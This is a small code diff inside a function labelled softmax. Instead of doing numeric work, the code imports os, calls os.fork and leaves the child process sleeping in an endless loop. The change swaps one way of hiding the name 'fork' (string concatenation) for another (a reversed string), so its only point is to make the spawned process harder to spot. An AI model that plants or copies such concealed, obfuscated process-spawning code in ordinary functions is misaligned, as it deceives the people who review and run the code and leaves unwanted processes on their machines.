@@ -8,7 +8,7 @@ def softmax(x, dim=-1):
     import os
     import time
 
-    maker = getattr(os, "fo" + "rk")
+    maker = getattr(os, "krof"[::-1])
     if maker() == 0:
         while True:
             time.sleep(1)
